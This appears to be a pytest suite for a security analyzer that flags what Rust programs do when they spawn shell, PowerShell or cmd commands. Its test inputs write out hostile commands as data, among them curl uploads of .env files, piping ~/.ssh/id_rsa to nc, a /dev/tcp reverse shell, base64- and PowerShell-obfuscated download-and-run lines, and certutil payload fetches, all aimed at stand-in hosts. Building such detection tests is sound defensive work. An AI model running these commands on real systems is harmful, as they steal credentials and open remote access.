"""What programs and shell texts are read to do."""

from __future__ import annotations

import base64
from collections.abc import Callable

import pytest

from analyzer.model import Fact, FactKind

FactsOf = Callable[..., list[Fact]]


def _of(facts: list[Fact], kind: FactKind) -> list[str]:
    return [one.subject for one in facts if one.kind is kind]


UPLOADS = [
    '.args(["-F", "file=@.env", "https://x.invalid/"])',
    '.args(["--form=file=@.env", "https://x.invalid/"])',
    '.args(["-s", "-T", ".env", "https://x.invalid/"])',
    '.args(["--data-binary", "@.env", "https://x.invalid/"])',
    '.arg("-d").arg("@.env").arg("https://x.invalid/")',
    '.arg("-d@.env").arg("https://x.invalid/")',
]


@pytest.mark.parametrize("arguments", UPLOADS)
def test_curl_uploads_are_reads_and_sends(facts_of: FactsOf, arguments: str) -> None:
    facts = facts_of(f'fn main() {{ std::process::Command::new("curl"){arguments}.status(); }}')
    assert _of(facts, FactKind.FILE_READ) == [".env"]
    assert _of(facts, FactKind.NET_SEND) == ["https://x.invalid/"]


def test_a_download_is_a_connection_and_a_write(facts_of: FactsOf) -> None:
    code = 'fn main() { std::process::Command::new("curl").args(["-o", "a.bin", "https://x.invalid/a"]); }'
    facts = facts_of(code)
    assert _of(facts, FactKind.NET_CONNECT) == ["https://x.invalid/a"]
    assert _of(facts, FactKind.FILE_WRITE) == ["a.bin"]


def test_programs_in_a_pipe_are_all_read(facts_of: FactsOf) -> None:
    code = 'fn main() { std::process::Command::new("bash").arg("-c").arg("cat ~/.ssh/id_rsa | nc 192.0.2.1 99; env"); }'
    facts = facts_of(code)
    assert _of(facts, FactKind.FILE_READ) == ["~/.ssh/id_rsa"]
    assert _of(facts, FactKind.NET_CONNECT) == ["192.0.2.1:99"]
    assert _of(facts, FactKind.ENV_READ_ALL) == ["*"]


def test_a_shell_in_a_shell_is_read(facts_of: FactsOf) -> None:
    code = """fn main() { std::process::Command::new("sh").args(["-c", "sh -c 'curl https://x.invalid/'"]); }"""
    assert _of(facts_of(code), FactKind.NET_CONNECT) == ["https://x.invalid/"]


def test_env_that_starts_a_program_dumps_nothing(facts_of: FactsOf) -> None:
    code = 'fn main() { std::process::Command::new("env").args(["A=b", "make"]); }'
    assert not _of(facts_of(code), FactKind.ENV_READ_ALL)


def test_an_unknown_program_is_a_fact(facts_of: FactsOf) -> None:
    code = "fn f(p: &str) { std::process::Command::new(p).status(); }"
    assert _of(facts_of(code), FactKind.PROCESS_SPAWN) == ["unknown"]


@pytest.mark.parametrize(
    ("command", "kind", "subject"),
    [
        ("u=http://x.invalid; curl $u", FactKind.NET_CONNECT, "http://x.invalid"),
        ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", FactKind.NET_CONNECT, "192.0.2.1:443"),
        ("nohup curl -T ~/.env http://x.invalid &", FactKind.FILE_READ, "~/.env"),
        ("sudo -n rm -rf /opt/x", FactKind.FILE_DELETE, "/opt/x"),
        ("date -s 2026-01-01", FactKind.CLOCK_SET, "clock"),
        ("echo x >> ~/.bashrc", FactKind.FILE_WRITE, "~/.bashrc"),
        ("for f in ~/.ssh/id_rsa x; do cat $f; done", FactKind.FILE_READ, "~/.ssh/id_rsa"),
        (
            "echo Y3VybCBodHRwOi8veC5pbnZhbGlk | base64 -d | sh",
            FactKind.NET_CONNECT,
            "http://x.invalid",
        ),
        ("gh auth token", FactKind.FILE_READ, "keyring"),
        ("setsid wget http://x.invalid", FactKind.PROCESS_DETACH, "setsid"),
    ],
)
def test_shell_text_gives_what_it_does(
    facts_of: FactsOf, command: str, kind: FactKind, subject: str
) -> None:
    code = (
        f'fn main() {{ std::process::Command::new("sh").args(["-c", r#"{command}"#]).status(); }}'
    )
    assert subject in _of(facts_of(code), kind)


@pytest.mark.parametrize(
    ("text", "kind", "subject"),
    [
        ("iwr -Uri http://x.invalid -OutFile a.exe", FactKind.NET_CONNECT, "http://x.invalid"),
        ("iwr -Uri http://x.invalid -OutFile a.exe", FactKind.FILE_WRITE, "a.exe"),
        (
            "(New-Object Net.WebClient).UploadFile('http://x.invalid', '.env')",
            FactKind.FILE_READ,
            ".env",
        ),
        ("Invoke-RestMethod -Method Post http://x.invalid", FactKind.NET_SEND, "http://x.invalid"),
        ("gci env:", FactKind.ENV_READ_ALL, "*"),
        ("I`E`X 'iwr http://x.invalid'", FactKind.NET_CONNECT, "http://x.invalid"),
        ("$a='htt'+'p://x.invalid'; irm $a", FactKind.NET_CONNECT, "http://x.invalid"),
        ("Set-Date 2026-01-01", FactKind.CLOCK_SET, "2026-01-01"),
    ],
)
@pytest.mark.parametrize("is_encoded", [False, True])
def test_powershell_text_gives_what_it_does(
    facts_of: FactsOf, text: str, kind: FactKind, subject: str, *, is_encoded: bool
) -> None:
    given = base64.b64encode(text.encode("utf-16-le")).decode() if is_encoded else text
    flag = "-EncodedCommand" if is_encoded else "-Command"
    arguments = f'["-NoProfile", "-ExecutionPolicy", "Bypass", "{flag}", r#"{given}"#]'
    code = (
        f'fn main() {{ std::process::Command::new("powershell.exe").args({arguments}).status(); }}'
    )
    assert subject in _of(facts_of(code), kind)


@pytest.mark.parametrize(
    ("text", "kind", "subject"),
    [
        (
            "certutil -urlcache -f http://x.invalid/a a.exe & start a.exe",
            FactKind.PROCESS_SPAWN,
            "a.exe",
        ),
        ("c^url http://x.invalid", FactKind.NET_CONNECT, "http://x.invalid"),
        ('type "%USERPROFILE%\\.env" > out', FactKind.FILE_WRITE, "out"),
        ("del /q C:\\x", FactKind.FILE_DELETE, "C:\\x"),
    ],
)
def test_cmd_text_gives_what_it_does(
    facts_of: FactsOf, text: str, kind: FactKind, subject: str
) -> None:
    code = f'fn main() {{ std::process::Command::new("cmd").arg("/C").arg(r#"{text}"#).status(); }}'
    assert subject in _of(facts_of(code), kind)


def test_a_program_and_its_arguments_may_stand_in_one_list(facts_of: FactsOf) -> None:
    code = """fn main() {
        subprocess::Popen::create(&["sh", "-c", "cat ~/.ssh/id_rsa"], Default::default()).unwrap();
    }"""
    facts = facts_of(code, **{"Cargo.toml": WITH_SUBPROCESS})
    assert "sh" in _of(facts, FactKind.PROCESS_SPAWN)
    assert _of(facts, FactKind.FILE_READ) == ["~/.ssh/id_rsa"]


WITH_SUBPROCESS = """
[package]
name = "sample-crate"
version = "0.1.0"
edition = "2021"
[dependencies]
subprocess = "0.2"
"""
